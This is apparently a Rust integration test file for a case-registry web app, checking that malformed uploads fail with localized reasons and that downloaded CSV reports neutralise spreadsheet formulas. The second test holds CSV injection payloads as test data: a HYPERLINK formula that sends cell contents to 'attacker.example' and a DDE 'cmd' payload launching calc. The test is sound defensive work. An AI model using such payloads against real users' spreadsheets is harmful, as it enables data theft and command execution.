//! Uploads that are not case files end their submission as failed, with the
//! reason on its page in the reader's language; the report a browser
//! downloads holds no formula a spreadsheet would run.

use crate::app::{SBCP_ADMIN, TestApp};
use std::time::Duration;

/// Uploads `bytes` as `name` to SBCP's registry; the submission page's path.
async fn upload(app: &TestApp, client: &reqwest::Client, name: &str, bytes: Vec<u8>) -> String {
    let page = client
        .get(app.url("/societies/SBCP/registry"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let csrf = crate::app::csrf_in(&page);
    let form = reqwest::multipart::Form::new().part(
        "file",
        reqwest::multipart::Part::bytes(bytes).file_name(name.to_owned()),
    );
    let response = client
        .post(app.url(&format!(
            "/societies/SBCP/registry/submissions?csrf_token={csrf}"
        )))
        .multipart(form)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 303, "{name}");
    response.headers()["location"].to_str().unwrap().to_owned()
}

/// The submission page once its import is over (it refreshes until then).
async fn finished(app: &TestApp, client: &reqwest::Client, location: &str, lang: &str) -> String {
    for _ in 0..200 {
        let html = client
            .get(app.url(location))
            .header("accept-language", lang)
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        if !html.contains("http-equiv=\"refresh\"") {
            return html;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    panic!("{location} still importing");
}

fn utf16(text: &str) -> Vec<u8> {
    let mut bytes = vec![0xFF, 0xFE];
    for unit in text.encode_utf16() {
        bytes.extend(unit.to_le_bytes());
    }
    bytes
}

fn random_bytes(len: usize) -> Vec<u8> {
    let mut state: u64 = 0x853C_49E6_748F_EA9B;
    let mut bytes = Vec::with_capacity(len + 8);
    while bytes.len() < len {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        bytes.extend_from_slice(&state.to_le_bytes());
    }
    bytes
}

fn executable() -> Vec<u8> {
    let mut bytes = std::fs::read(std::env::current_exe().unwrap()).unwrap();
    bytes.truncate(256 * 1024);
    bytes
}

#[tokio::test]
async fn an_upload_not_readable_as_cases_fails_with_its_reason_and_changes_nothing() {
    let app = TestApp::spawn().await;
    let admin = app.signed_in(SBCP_ADMIN).await;
    let template = kallos_registry::dataset::template_csv();
    let audit_before = app.audit_count().await;
    let mut locations = Vec::new();
    for (name, bytes, english, french) in [
        (
            "cases.csv",
            utf16(&template),
            "the file is UTF-16 text: save it as CSV UTF-8; nothing was imported",
            "le fichier est un texte UTF-16 : enregistrez-le au format CSV UTF-8 ; rien n&#39;a été importé",
        ),
        (
            "semicolons.csv",
            template.replace(',', ";").into_bytes(),
            "the columns are separated by &#39;;&#39;, not commas",
            "les colonnes sont séparées par « ; » et non par des virgules",
        ),
        (
            "noise.csv",
            random_bytes(64 * 1024),
            "the file is not text: save the cases as CSV UTF-8 or XLSX; nothing was imported",
            "le fichier n&#39;est pas du texte",
        ),
        (
            "program.csv",
            executable(),
            "the file is not text: save the cases as CSV UTF-8 or XLSX; nothing was imported",
            "le fichier n&#39;est pas du texte",
        ),
    ] {
        // The same bytes twice: the second upload is a submission of its
        // own, which fails the same way (the first is not resumed).
        let mut mine = Vec::new();
        for _ in 0..2 {
            let location = upload(&app, &admin, name, bytes.clone()).await;
            let html = finished(&app, &admin, &location, "en").await;
            let html = html.replace("&#x27;", "&#39;");
            assert!(
                html.contains("role=\"status\">Failed</span>"),
                "{name}: {html}"
            );
            assert!(
                html.contains("could not be read as cases, so nothing was imported"),
                "{name}: {html}"
            );
            assert!(html.contains(english), "{name}: {english} in {html}");
            assert!(!html.contains("Every row passed the checks"), "{name}");
            let french_page = finished(&app, &admin, &location, "fr").await;
            let french_page = french_page.replace("&#x27;", "&#39;");
            assert!(french_page.contains(">Échec</span>"), "{name}");
            assert!(
                french_page.contains(french),
                "{name}: {french} in {french_page}"
            );
            let report = admin
                .get(app.url(&format!("{location}/report.csv")))
                .send()
                .await
                .unwrap()
                .text()
                .await
                .unwrap();
            assert!(
                report.starts_with("row,column,value,reason,severity\n1,"),
                "{report}"
            );
            assert_eq!(report.lines().count(), 2, "{report}");
            mine.push(location);
        }
        assert_ne!(
            mine[0], mine[1],
            "{name}: the failed submission was resumed"
        );
        locations.extend(mine);
    }
    // Nothing changed but the submissions themselves.
    assert_eq!(app.store.count_cases(None).await.unwrap(), 0);
    assert!(app.store.rollups().await.unwrap().is_empty());
    assert!(app.audit_count().await > audit_before);
    let registry = admin
        .get(app.url("/societies/SBCP/registry"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert_eq!(registry.matches("<td>Failed</td>").count(), 8, "{registry}");
    assert!(!registry.contains("Importing…"), "{registry}");
}

#[tokio::test]
async fn the_downloaded_report_holds_no_formula_a_spreadsheet_would_run() {
    let app = TestApp::spawn().await;
    let admin = app.signed_in(SBCP_ADMIN).await;
    let header = kallos_registry::dataset::template_header();
    let columns: Vec<&str> = header.split(',').collect();
    let mut row = vec![String::new(); columns.len()];
    let at = |name: &str| columns.iter().position(|c| *c == name).unwrap();
    for (name, value) in [
        (
            "case_id",
            "\"=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A1,\"\"click\"\")\"",
        ),
        ("society", "SBCP"),
        ("setting", "+cmd|' /C calc'!A0"),
        ("age", "-5"),
        ("sex", "@SUM(A1:A9)"),
    ] {
        row[at(name)] = value.to_owned();
    }
    let location = upload(
        &app,
        &admin,
        "cases.csv",
        format!("{header}\n{}\n", row.join(",")).into_bytes(),
    )
    .await;
    finished(&app, &admin, &location, "en").await;
    let report = admin
        .get(app.url(&format!("{location}/report.csv")))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    for neutralised in [
        "\"'=HYPERLINK(\"\"http://attacker.example/?x=\"\"&A1,\"\"click\"\")\"",
        "\"'+cmd|' /C calc'!A0\"",
        "\"'-5\"",
        "\"'@SUM(A1:A9)\"",
    ] {
        assert!(report.contains(neutralised), "{neutralised} in {report}");
    }
    for line in report.lines().skip(1) {
        let (row, rest) = line.split_once(',').unwrap();
        assert_eq!(row, "2", "the row number stays a number: {line}");
        for cell in rest.split("\",\"") {
            let cell = cell.trim_start_matches('"');
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{line}"
            );
        }
    }
}
